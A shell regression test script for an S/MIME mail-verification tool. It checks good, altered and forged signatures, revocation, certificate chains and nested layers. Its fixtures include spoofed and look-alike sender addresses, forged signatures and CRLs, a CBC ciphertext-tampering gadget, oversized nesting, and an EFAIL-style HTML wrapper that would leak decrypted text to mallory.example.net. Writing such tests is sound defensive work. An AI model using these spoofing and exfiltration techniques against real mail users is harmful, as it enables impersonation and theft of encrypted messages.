#!/bin/sh
# SPDX-License-Identifier: ISC
# Who signed this, what of it, and was it altered: good mail is good, and nothing else is.
. "$(dirname "$0")/lib.sh"
[ -n "$softhsm" ] || plan_skip "SoftHSM is not installed"

. "$srcdir/tests/regress/verify-lib.sh"
key_type=ec key_option="-pkeyopt ec_paramgen_curve:P-256" issue carol /CN=Carol "$mail_use" subjectAltName=email:carol@example.org

# What is good.
sign "$work/detached.eml"
sign "$work/opaque.eml" -nodetach
sign "$work/pss.eml" -keyopt rsa_padding_mode:pss
sign "$work/sha512.eml" -md sha512
sign "$work/both.eml" -signer "$work/bob.pem" -inkey "$work/bob.key"
openssl cms -sign -in "$work/text" -from carol@example.org -signer "$work/carol.pem" -inkey "$work/carol.key" -out "$work/ec.eml"
sed 's/\r*$/\r/' "$work/detached.eml" >"$work/crlf.eml"
for kind in detached opaque pss sha512 ec crlf; do
	ok "$kind: good" is good 0 "$work/$kind.eml" good
	ok "$kind: exactly what was signed comes out" cmp "$work/signed" "$work/text.crlf"
done
ok "the report for people names the signer and what was covered" sh -c \
	"smime verify --ca '$work/ca.pem' -o '$work/signed' '$work/detached.eml' 2>&1 | grep -q 'good: alice@example.org' &&
	smime verify --ca '$work/ca.pem' '$work/detached.eml' 2>&1 >'$work/signed' | sed -n 1p | grep -qx 'Verification successful' &&
	cmp '$work/signed' '$work/text.crlf'"
ok "from a pipe too" sh -c "cat '$work/detached.eml' | smime verify --ca '$work/ca.pem' -o - | cmp - '$work/text.crlf'"
ok "two signers, one of whom is not the sender: each has his verdict" is good-but 1 "$work/both.eml" not-from-signer good
for form in DER PEM; do
	openssl cms -sign -binary -nodetach -in "$work/text" -signer "$work/alice.pem" -inkey "$work/alice.key" -signer "$work/bob.pem" \
		-inkey "$work/bob.key" -outform $form -out "$work/raw.$form"
	ok "CMS in $form with two signers: good" raw 0 "$work/raw.$form"
	ok "and its content comes out" cmp "$work/signed" "$work/text"
done
openssl cms -sign -binary -stream -nodetach -in "$work/text" -signer "$work/alice.pem" -inkey "$work/alice.key" -outform DER -out "$work/ber"
ok "BER with indefinite lengths: good" raw 0 "$work/ber"
openssl base64 -in "$work/ber" -out "$work/base64"
ok "bare base64: good" raw 0 "$work/base64"
openssl cms -sign -binary -in "$work/text" -signer "$work/alice.pem" -inkey "$work/alice.key" -outform DER -out "$work/p7s"
ok "a detached signature and its content: good" raw 0 "$work/p7s" --content "$work/text"
ok "of a text that was stored with other line ends: not the bytes that were signed" sh -c \
	"! smime verify --raw --ca '$work/ca.pem' --content '$work/text.crlf' '$work/p7s' 2>/dev/null >&2"
ok "without its content: cannot be told" raw 1 "$work/p7s"
ok "and says so" found cannot-tell no-content

# More than is held until the signature is known.
{ cat "$work/text"; seq 300000; } >"$work/long"
sed 's/$/\r/' "$work/long" >"$work/long.crlf"
openssl cms -sign -in "$work/long" -from alice@example.org -signer "$work/alice.pem" -inkey "$work/alice.key" -out "$work/long.eml"
ok "a long mail with LF: good" is good 0 "$work/long.eml"
ok "what was signed comes out, with CRLF" cmp "$work/signed" "$work/long.crlf"
openssl cms -sign -binary -in "$work/long" -from alice@example.org -signer "$work/alice.pem" -inkey "$work/alice.key" -out "$work/lf.eml"
ok "one that was signed with LF, as no mail is: good" is good 0 "$work/lf.eml" good
ok "it comes out with LF" cmp "$work/signed" "$work/long"
ok "on standard output too" sh -c "smime verify --ca '$work/ca.pem' '$work/lf.eml' >'$work/signed' && cmp '$work/signed' '$work/long'"
appended() { # others may append to it as well: nothing is cut off
	echo before >"$work/appended"
	says 'signed with bare line feeds' 1 smime verify --ca "$work/ca.pem" "$work/lf.eml" >>"$work/appended" && [ "$(cat "$work/appended")" = before ]
}
ok "a file that is appended to is not written again" appended
ok "into a pipe it cannot be written" says 'signed with bare line feeds' 1 sh -c \
	"{ smime verify --ca '$work/ca.pem' '$work/lf.eml'; echo \$? >'$work/status'; } | cat >/dev/null; exit \$(cat '$work/status')"
ok "nor out of one be read again" says 'signed with bare line feeds' 1 sh -c "cat '$work/lf.eml' | smime verify --ca '$work/ca.pem' -o '$work/gone'"
ok "and there is no file then" [ ! -e "$work/gone" ]
openssl cms -sign -in "$work/long" -nodetach -from alice@example.org -signer "$work/alice.pem" -inkey "$work/alice.key" -out "$work/long.opaque"
ok "a long opaque one: good" is good 0 "$work/long.opaque"
ok "it comes out as well" cmp "$work/signed" "$work/long.crlf"
openssl cms -sign -binary -in "$work/long" -signer "$work/alice.pem" -inkey "$work/alice.key" -outform DER -out "$work/long.p7s"
ok "a long detached content: good" raw 0 "$work/long.p7s" --content "$work/long"
ok "and comes out" cmp "$work/signed" "$work/long"
{ head -c 2000000 "$work/long.eml" | sed 's/299/298/'; tail -c +2000001 "$work/long.eml"; } >"$work/long.altered"
ok "altered: bad, and no file" sh -c "! smime verify --ca '$work/ca.pem' -o '$work/gone' '$work/long.altered' 2>/dev/null && [ ! -e '$work/gone' ]"

# The agent's own, with every key type.
make_token verify >/dev/null 2>&1
write_mail "$work/mail.eml"
for type in rsa:2048 ec:P-256 ec:P-384 ed25519; do
	make_key verify "$type" "$type" rsa@example.org >/dev/null 2>&1
	unlock verify >/dev/null 2>&1
	for options in "" --opaque; do
		ok "smime sign $options with $type: good" sh -c "smime sign -k '$type' $options -o '$work/own.eml' '$work/mail.eml' &&
			smime verify --ca '$work/ca.pem' -o '$work/signed' '$work/own.eml'"
	done
done
ok "with RSA-PSS: good" sh -c "smime sign --pss -k rsa:2048 -o '$work/own.eml' '$work/mail.eml' && smime verify --ca '$work/ca.pem' -o /dev/null '$work/own.eml'"
ok "a protected subject that was changed outside: told" sh -c "sed '1,/^\r*$/s/^Subject: .*/Subject: another/' '$work/own.eml' >'$work/subject.eml'"
ok "and not good" is good-but 1 "$work/subject.eml" header-differs header-protected Subject

# Altered.
alter() { # WHAT FROM TO FILE
	sed "s/$2/$3/" "$4" >"$work/altered.eml"
	! cmp -s "$4" "$work/altered.eml" || return
	is bad 1 "$work/altered.eml" altered && nothing_came_out
}
ok "altered text: bad, and nothing comes out" alter text "pay 10" "pay 99" "$work/detached.eml"
ok "altered header of the part: bad" alter header us-ascii utf-8 "$work/detached.eml"
printf 'Content-Type: multipart/mixed; boundary=x\n\n--x\n\ntext\n--x\nContent-Disposition: attachment\n\npay 10\n--x--\n' >"$work/attachment"
openssl cms -sign -in "$work/attachment" -from alice@example.org -signer "$work/alice.pem" -inkey "$work/alice.key" -out "$work/attachment.eml"
ok "a mail with an attachment: good" is good 0 "$work/attachment.eml"
ok "altered attachment: bad" alter attachment "pay 10" "pay 99" "$work/attachment.eml"

# Made by hand.
issue dora /CN=Dora "$mail_use" subjectAltName=email:dora@example.org
forger=alice
forge() { # CASES
	"$python" "$srcdir/tests/regress/forge.py" "$1" "$work/$forger.key" "$work/$forger.pem" "$work/text.crlf" >"$work/forged"
}
forged() { # CASES STATUS WORD...
	forge "$1" && raw "$2" "$work/forged" || return
	shift 2
	found "$@" || return
	case $1 in
	bad | cannot-tell) nothing_came_out ;;
	esac
}
ok "made by hand, and right: good" forged plain 0 good
ok "without signed attributes: good" forged no-attributes 0 good
for case in no-type no-digest no-type,no-digest double-digest double-type double-time \
	double-capabilities double-certificate two-values wrong-type other-type,no-attributes; do
	ok "signed attributes, $case: bad" forged $case 1 bad attributes
done
ok "attributes passed off as content: bad" forged swapped 1 bad attributes
ok "an altered attribute: bad" forged altered-attribute 1 bad forged
ok "an altered signature: bad" forged altered-signature 1 bad forged
ok "altered content: bad" forged altered-content 1 bad altered
ok "no signer: bad" forged no-signer 1 bad no-signer
ok "another certificate is meant: bad" forged other-certificate 1 bad other-certificate
forger=dora
ok "no certificate: cannot be told" forged no-certificate 1 cannot-tell no-certificate
ok "and nothing goes into a pipe" sh -c "smime verify --raw --ca '$work/ca.pem' '$work/forged' | cmp - /dev/null"
forger=alice
ok "but that of somebody who wrote before" forged no-certificate 0 good
ok "SHA-1: not good" forged sha1 1 good-but weak-digest
ok "MD5: not good" forged md5 1 good-but weak-digest
ok "signed before the certificate was there: not good" forged early 1 good-but signed-before
ok "thirty-two signers: fine" forged signers=32 0 good
forge signers=33
ok "thirty-three: refused" says TOO_LARGE 1 smime verify --json --raw "$work/forged"
forge certificates=3000
ok "thousands of certificates: refused" says TOO_LARGE 1 smime verify --json --raw "$work/forged"
forge plain
ok "a signature with content of its own, for other content: bad" raw 1 "$work/forged" --content "$work/text.crlf"
ok "and says so" found bad own-content
{
	printf 'From: alice@example.org\nContent-Type: multipart/signed; protocol="application/pkcs7-signature"; micalg=sha-256; boundary=b\n\n--b\n'
	cat "$work/text"
	printf '\n--b\nContent-Type: application/pkcs7-signature\nContent-Transfer-Encoding: base64\n\n'
	openssl base64 -in "$work/forged"
	printf '\n--b--\n'
} >"$work/own-content.eml"
ok "the same in a mail: bad" is bad 1 "$work/own-content.eml" own-content
head -c 1500 "$work/opaque.eml" >"$work/cut.eml"
ok "cut short: bad" is bad 1 "$work/cut.eml" damaged

# Into a pipe as little as into a file.
openssl cms -sign -nocerts -in "$work/text" -from dora@example.org -signer "$work/dora.pem" -inkey "$work/dora.key" -out "$work/nocerts.eml"
ok "whose it is cannot be told" is cannot-tell 1 "$work/nocerts.eml" no-certificate
sed "s/pay 10/pay 99/" "$work/detached.eml" >"$work/altered.eml"
for kind in nocerts altered; do
	ok "$kind: nothing goes out" sh -c "smime verify --ca '$work/ca.pem' '$work/$kind.eml' | cmp - /dev/null"
done

# Who it is.
from() { # FROM-FIELD
	{ printf '%s\n' "$1"; sed '/^From:/d' "$work/detached.eml"; } >"$work/from.eml"
}
for field in "From: mallory@example.net" "From: \"alice@example.org\" <mallory@example.net>" "From: alice@example.org, mallory@example.net" \
	"From: alice@example.org.example.net" "From: Alice <mallory@example.net> (alice@example.org)" "From: аlice@example.org" \
	"From: <alice@example.org> <mallory@example.net>" "From: alice@example.org@example.net" "From: undisclosed:;"; do
	from "$field"
	ok "$field: not the signer" is good-but 1 "$work/from.eml" not-from-signer
done
from "From: mallory@example.net
From: alice@example.org"
ok "two From fields: not the signer" is good-but 1 "$work/from.eml" not-from-signer
for field in "From: ALICE@Example.ORG" "From: =?utf-8?q?Al=C3=ACce?= <alice@example.org>" "from: \"Doe, Alice\" <alice@example.org>" \
	"From: Alice (mallory@example.net) <alice@example.org>"; do
	from "$field"
	ok "$field: the signer" is good 0 "$work/from.eml"
done
from "From: alice@example.org
Sender: list@example.com"
ok "another Sender: told" is good 0 "$work/from.eml" sender-differs
sign_as() { # NAME [FROM]
	openssl cms -sign -in "$work/text" -from "${2:-alice@example.org}" -signer "$work/$1.pem" -inkey "$work/$1.key" -out "$work/$1.eml"
}
sign_as mallory
ok "somebody else's signature in place of hers: told" is good-but 1 "$work/mallory.eml" not-from-signer
issue nul /CN=Nul "$mail_use" "subjectAltName=DER:30:1f:81:1d:61:6c:69:63:65:40:65:78:61:6d:70:6c:65:2e:6f:72:67:00:2e:65:78:61:6d:70:6c:65:2e:6e:65"
sign_as nul
ok "an address with a NUL in it: not the signer" is good-but 1 "$work/nul.eml" not-from-signer
issue utf8 /CN=Utf8 "$mail_use" subjectAltName=@alt '[alt]' "otherName=1.3.6.1.5.5.7.8.9;FORMAT:UTF8,UTF8String:älice@bücher.example"
sign_as utf8 "älice@xn--bcher-kva.example"
ok "an internationalised address (RFC 9598): the signer" is good 0 "$work/utf8.eml"
sign_as utf8 "älice@bücher.example"
ok "and spelled out" is good 0 "$work/utf8.eml"
sign_as utf8 "alice@bücher.example"
ok "a look-alike of it: not" is good-but 1 "$work/utf8.eml" not-from-signer

# Its certificate.
openssl req -x509 -newkey rsa:2048 -nodes -keyout "$work/self.key" -out "$work/self.pem" -subj /CN=Alice -addext "$mail_use" \
	-addext subjectAltName=email:alice@example.org 2>/dev/null
sign_as self
ok "a certificate that nobody trusts: not good" is good-but 1 "$work/self.eml" untrusted
ok "what fits and is not good comes out" cmp "$work/signed" "$work/text.crlf"
issue server /CN=Alice keyUsage=digitalSignature extendedKeyUsage=serverAuth subjectAltName=email:alice@example.org
sign_as server
ok "a server's certificate: not good" is good-but 1 "$work/server.eml" wrong-use
issue encipher /CN=Alice keyUsage=keyEncipherment extendedKeyUsage=emailProtection subjectAltName=email:alice@example.org
sign_as encipher
ok "a certificate to encrypt to: not good" is good-but 1 "$work/encipher.eml" wrong-use
issue any /CN=Alice keyUsage=digitalSignature extendedKeyUsage=anyExtendedKeyUsage subjectAltName=email:alice@example.org
sign_as any
ok "one for any use: good" is good 0 "$work/any.eml"
issuer=alice issue below /CN=Below "$mail_use" subjectAltName=email:alice@example.org
openssl cms -sign -in "$work/text" -from alice@example.org -signer "$work/below.pem" -inkey "$work/below.key" -certfile "$work/alice.pem" -out "$work/below.eml"
ok "issued by somebody who is no CA: bad" is bad 1 "$work/below.eml" bad-chain
verify 1 "$work/detached.eml" --at 2100-01-01
ok "expired since: not good, and it was valid when it was made" found good-but expired
issue late /CN=Alice "$mail_use" subjectAltName=email:alice@example.org
expired late late.pem 01
sign_as late
ok "expired when it was made: not good, and nothing says more for it" is good-but 1 "$work/late.eml" expired-at-signing
verify 1 "$work/detached.eml" --at 2001-01-01T00:00:00Z
ok "not valid yet: not good" found good-but not-yet-valid
ok "a time that is none: usage" status 2 smime verify --at yesterday "$work/detached.eml"

# Revocation.
mkdir -p "$work/crl" && : >"$work/crl/index" && echo 01 >"$work/crl/number"
printf '[ca]\ndefault_ca=own\n[own]\ndatabase=%s/crl/index\ncrlnumber=%s/crl/number\ndefault_md=sha256\ndefault_crl_days=30\n' "$work" "$work" >"$work/crl/conf"
crl() { openssl ca -config "$work/crl/conf" -cert "$work/ca.pem" -keyfile "$work/ca.key" "$@" 2>/dev/null; }
crl -gencrl -out "$work/empty.crl"
crl -revoke "$work/alice.pem"
crl -gencrl -out "$work/alice.crl"
ok "with an empty revocation list: good" verify 0 "$work/detached.eml" --crl "$work/empty.crl"
ok "revoked: bad" verify 1 "$work/detached.eml" --crl "$work/alice.crl"
ok "and says so" found bad revoked
openssl crl -in "$work/alice.crl" -outform DER -out "$work/alice.crl.der"
verify 1 "$work/detached.eml" --crl "$work/alice.crl.der"
ok "the list in DER: the same" found bad revoked
verify 1 "$work/detached.eml" --crl-check
ok "a check that finds no list: not good" found good-but no-crl
verify 1 "$work/detached.eml" --crl "$work/empty.crl" --at "$(date -u -d '+60 days' +%Y-%m-%d)"
ok "an old list: not good" found good-but old-crl
# By somebody who calls himself as the CA is called.
openssl req -x509 -newkey rsa:2048 -nodes -keyout "$work/false.key" -out "$work/false.pem" -subj "/CN=Test CA" 2>/dev/null
openssl ca -config "$work/crl/conf" -cert "$work/false.pem" -keyfile "$work/false.key" -gencrl -out "$work/false.crl" 2>/dev/null
verify 1 "$work/detached.eml" --crl "$work/false.crl"
ok "a forged list revokes nothing, and is none" sh -c "grep -q '\"no-crl\"' '$work/json' && ! grep -q '\"revoked\"' '$work/json'"
ok "a list that is none: refused" status 1 smime verify --crl "$work/text" "$work/detached.eml"

# What it covers.
{
	printf 'From: alice@example.org\nSubject: list\nContent-Type: multipart/mixed; boundary=outer\n\n--outer\n'
	sed '/^From:\|^To:\|^Subject:/d' "$work/detached.eml"
	printf '\n--outer\nContent-Type: text/plain\n\nA footer that nobody signed.\n--outer--\n'
} >"$work/list.eml"
ok "a signed part in a list's mail: partly signed" is partly-signed 1 "$work/list.eml" good
ok "and nothing comes out" nothing_came_out
{
	printf 'From: bob@example.org\nContent-Type: message/rfc822\n\n'
	cat "$work/detached.eml"
} >"$work/forward.eml"
ok "a signed mail that was forwarded: not the forwarder's signature" is partly-signed 1 "$work/forward.eml" forwarded good
sed '$d' "$work/detached.eml" | sed '/^--.*--$/d' >"$work/extra.eml"
boundary=$(sed -n 's/.*boundary="\(.*\)"/\1/p' "$work/detached.eml")
printf -- '\n--%s\nContent-Type: text/html\n\n<b>pay Mallory</b>\n--%s--\nand more\n' "$boundary" "$boundary" >>"$work/extra.eml"
ok "a part behind the signature: partly signed" is partly-signed 1 "$work/extra.eml" extra-parts unsigned-text
printf 'From: a@example.org\n\nhello\n' >"$work/plain.eml"
ok "nothing signed: not signed" is not-signed 1 "$work/plain.eml"
openssl crl2pkcs7 -nocrl -certfile "$work/alice.pem" -outform DER | openssl base64 >"$work/certs.p7c"
{ printf 'From: a@example.org\nContent-Type: application/pkcs7-mime; smime-type=certs-only\nContent-Transfer-Encoding: base64\n\n'; cat "$work/certs.p7c"; } >"$work/certs.eml"
ok "certificates only: not signed" is not-signed 1 "$work/certs.eml"
sed 's/smime-type=certs-only/smime-type=signed-data/' "$work/certs.eml" >"$work/zero.eml"
ok "the same called signed: bad" is bad 1 "$work/zero.eml" no-signer
printf 'Content-Type: text/plain\n' | cat - "$work/detached.eml" >"$work/twice.eml"
ok "two Content-Types: not signed, as far as anybody can tell" is not-signed 1 "$work/twice.eml"

# Layers.
cert=$work/rsa:2048.pem
encrypt() { # FROM-FILE INTO
	{ printf 'From: alice@example.org\nTo: bob@example.org\n'; openssl cms -encrypt -in "$1" ${cipher:--aes256} "$cert"; } >"$2"
}
sed '/^From:\|^To:\|^Subject:/d' "$work/detached.eml" >"$work/entity"
encrypt "$work/entity" "$work/signed-encrypted.eml"
ok "signed, then encrypted: good" is good 0 "$work/signed-encrypted.eml" encrypted signed
ok "what was signed comes out" cmp "$work/signed" "$work/text.crlf"
cipher=-aes-256-gcm encrypt "$work/entity" "$work/gcm.eml" 2>/dev/null
ok "the same with AES-GCM: good" is good 0 "$work/gcm.eml"
sed '/^From:/d' "$work/lf.eml" >"$work/lf.entity"
{ printf 'From: alice@example.org\n'; openssl cms -encrypt -binary -in "$work/lf.entity" -aes256 "$cert"; } >"$work/lf-encrypted.eml"
ok "a long mail that was signed with LF, then encrypted: good" is good 0 "$work/lf-encrypted.eml" encrypted signed
ok "and comes out with LF" cmp "$work/signed" "$work/long"
# Another writes into the file while the person is asked for the PIN: what it wrote stays.
cat >"$work/pinentry" <<-END
	#!/bin/sh
	echo another >>"$work/appended"
	exec "$srcdir/tests/regress/pinentry.sh"
END
chmod +x "$work/pinentry"
shared() {
	: >"$work/appended" && smime lock && echo "$PIN" >"$HOME/pinentry" || return
	/usr/bin/python3 - "$work/lf-encrypted.eml" "$work/appended" <<-'END' || return
		import array, os, socket, sys
		agent = socket.socket(socket.AF_UNIX)
		agent.settimeout(120)
		agent.connect(os.environ["SMIME_AGENT_SOCKET"])
		replies = agent.makefile("rb")
		def ask(line, *fds):
		    agent.sendmsg([line + b"\n"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", fds))] if fds else [])
		    said = b"S"
		    while not said.startswith((b"OK", b"ERR")):
		        said = replies.readline()
		    return said
		replies.readline()
		with open(sys.argv[1], "rb") as message, open(sys.argv[2], "ab") as out:
		    ask(b"INPUT FD", message.fileno())
		    ask(b"OUTPUT FD", out.fileno())
		    answer = ask(b"VERIFY --mail")
		sys.exit(not answer.endswith(b" Syntax error <User defined source 1>\n"))  # LINE_ENDS
	END
	[ "$(head -n 1 "$work/appended")" = another ]
}
sed -i "s|^pinentry-program .*|pinentry-program $work/pinentry|" "$conf"
ok "with a pinentry that writes into a file" smime agent reload
ok "a file that another wrote into meanwhile is not cut off" shared
sed '/^From:\|^To:/d' "$work/signed-encrypted.eml" >"$work/inner"
openssl cms -sign -in "$work/inner" -from alice@example.org -signer "$work/alice.pem" -inkey "$work/alice.key" -out "$work/triple.eml"
ok "triple wrapped: good" is good 0 "$work/triple.eml" encrypted
ok "three layers are told" sh -c "[ \"\$(grep -o '\"layer\":' '$work/json' | wc -l)\" = 3 ]"
encrypt "$work/text" "$work/encrypted.eml"
ok "encrypted and not signed: not signed" is not-signed 1 "$work/encrypted.eml" unauthenticated
{
	printf 'From: alice@example.org\nContent-Type: multipart/mixed; boundary=efail\n\n--efail\nContent-Type: text/html\n\n<img src="http://mallory.example.net/\n--efail\n'
	cat "$work/inner"
	printf '\n--efail\nContent-Type: text/html\n\n">\n--efail--\n'
} >"$work/efail.eml"
ok "HTML around an encrypted part: told, and never good" is partly-signed 1 "$work/efail.eml" among-parts among-html
ok "and nothing comes out" nothing_came_out
gadget() { # alters a block of the ciphertext of a signed mail
	"$python" - "$work/signed-encrypted.eml" >"$work/gadget.eml" <<-'END'
		import base64, sys
		head, body = open(sys.argv[1]).read().split("\n\n", 1)
		der = bytearray(base64.b64decode(body))
		der[-600] ^= 0x40
		text = base64.encodebytes(bytes(der)).decode()
		sys.stdout.write(head + "\n\n" + text)
	END
	verify 1 "$work/gadget.eml" && nothing_came_out
}
ok "altered CBC ciphertext: not good, and nothing comes out" gadget
"$python" - >"$work/deep.eml" <<-'END'
	depth = 500
	print("From: alice@example.org")
	for i in range(depth):
	    print(f"Content-Type: multipart/mixed; boundary=b{i}\n\n--b{i}")
	print("\nhello")
END
ok "hundreds of multiparts in one another: refused" says TOO_LARGE 1 smime verify --json "$work/deep.eml"
"$python" - "$work/detached.eml" >"$work/nested.eml" <<-'END'
	import sys
	for i in range(300):
	    print("From: bob@example.org\nContent-Type: message/rfc822\n")
	sys.stdout.write(open(sys.argv[1]).read())
END
ok "hundreds of forwarded mails: refused" says TOO_LARGE 1 smime verify --json "$work/nested.eml"
"$python" - >"$work/parts.eml" <<-'END'
	print("From: a@example.org\nContent-Type: multipart/mixed; boundary=b\n")
	for i in range(20000):
	    print("--b\n\nx")
	print("--b--")
END
ok "thousands of parts: refused" says TOO_LARGE 1 smime verify --json "$work/parts.eml"

# Mails that programs read each in another way.
odd() { # VERDICT STATUS SED-SCRIPT WORD...
	verdict=$1 wanted=$2
	sed "$3" "$work/detached.eml" >"$work/odd.eml"
	! cmp -s "$work/odd.eml" "$work/detached.eml" || return
	shift 3
	is "$verdict" "$wanted" "$work/odd.eml" "$@"
}
cr=$(printf '\r')
ok "a second boundary: bad" odd bad 1 's/boundary="/boundary=other; &/' damaged
ok "one in pieces beside it: bad" odd bad 1 's/boundary="/boundary*0=oth; boundary*1=er; &/' damaged
ok "a multipart that is encoded itself: not signed" odd not-signed 1 's/^MIME-Version.*/&\nContent-Transfer-Encoding: base64/'
ok "a second Content-Type: not signed" odd not-signed 1 's/^MIME-Version.*/&\nContent-Type: text\/html/'
ok "a CR that may end a line: not signed" odd not-signed 1 "s/^From: .*/X-A: b${cr}From: bob@example.org\n&/"
ok "a group that is called as somebody's address: not the signer" odd good-but 1 's/^From: .*/From: bob@example.org: alice@example.org;/' \
	not-from-signer
"$python" "$srcdir/tests/regress/forge.py" other-type "$work/alice.key" "$work/alice.pem" "$work/text.crlf" >"$work/forged"
{
	printf 'From: alice@example.org\nContent-Type: application/pkcs7-mime; smime-type=signed-data\n'
	printf 'Content-Transfer-Encoding: base64\n\n'
	openssl base64 -in "$work/forged"
} >"$work/odd.eml"
ok "what was signed as something else than mail: cannot be told" is cannot-tell 1 "$work/odd.eml" not-supported
{
	printf 'From: bob@example.org\nHP-Outer: From: alice@example.org\nContent-Type: text/plain; hp="cipher"\n\nhello\n'
} >"$work/odd.text"
openssl cms -sign -in "$work/odd.text" -from alice@example.org -signer "$work/alice.pem" -inkey "$work/alice.key" -out "$work/odd.eml"
ok "a protected sender who is not the one outside: told" is good-but 1 "$work/odd.eml" header-differs From

# Certificates that certify each other.
openssl req -x509 -key "$work/bob.key" -subj /CN=Loop1 -out "$work/loop1.pem" -addext basicConstraints=CA:TRUE 2>/dev/null
openssl req -x509 -key "$work/carol.key" -subj /CN=Loop2 -out "$work/loop2.pem" -addext basicConstraints=CA:TRUE 2>/dev/null
cross() { # SUBJECT ISSUER INTO
	openssl x509 -in "$work/$1.pem" -CA "$work/$2.pem" -CAkey "$work/$4.key" -CAcreateserial -out "$work/$3.pem" -clrext -days 100 2>/dev/null
}
cross loop1 loop2 cross1 carol
cross loop2 loop1 cross2 bob
cp "$work/bob.key" "$work/loop1.key"
issuer=loop1 issue looped /CN=Looped "$mail_use" subjectAltName=email:alice@example.org
cat "$work/cross1.pem" "$work/cross2.pem" "$work/loop1.pem" "$work/loop2.pem" >"$work/loop.pem"
openssl cms -sign -in "$work/text" -from alice@example.org -signer "$work/looped.pem" -inkey "$work/looped.key" \
	-certfile "$work/loop.pem" -out "$work/looped.eml"
ok "certificates in a loop: bad, and told at once" is bad 1 "$work/looped.eml" untrusted

# The store learns who wrote.
ok "a good signer is known from then on" sh -c "smime verify --ca '$work/ca.pem' -o /dev/null '$work/ec.eml' && smime certs list | grep -q carol@example.org"
issue sub /CN=Sub basicConstraints=CA:TRUE keyUsage=keyCertSign
issuer=sub issue erin /CN=Erin keyUsage=digitalSignature subjectAltName=email:erin@example.org
issuer=sub issue erin2 "/CN=Erin to encrypt to" keyUsage=keyEncipherment subjectAltName=email:erin@example.org
cat "$work/sub.pem" "$work/erin2.pem" >"$work/chain.pem"
sign_as erin erin@example.org
ok "without the certificate between: nobody trusts her" is good-but 1 "$work/erin.eml" untrusted
ok "an anchor that is no root ends no path" status 1 smime verify --ca "$work/sub.pem" -o /dev/null "$work/erin.eml"
cat "$work/sub.pem" "$work/ca.pem" >"$work/both.pem"
ok "but leads to one that is" smime verify --ca "$work/both.pem" -o /dev/null "$work/erin.eml"
openssl cms -sign -in "$work/text" -from erin@example.org -signer "$work/erin.pem" -inkey "$work/erin.key" -certfile "$work/chain.pem" -out "$work/erin-chain.eml"
ok "with it: good" is good 0 "$work/erin-chain.eml"
ok "her other certificate is known as well" sh -c "[ \"\$(smime certs list | grep -c erin@example.org)\" = 2 ]"
ok "and so is the one between, from then on" is good 0 "$work/erin.eml"
echo "trust-anchors $work/ca.pem" >>"$conf"
ok "anchors of the configuration" sh -c "smime agent reload && smime verify -o /dev/null '$work/erin.eml'"
ok "one that is not good is not" sh -c "! smime certs list | grep -q mallory@example.net"
finish
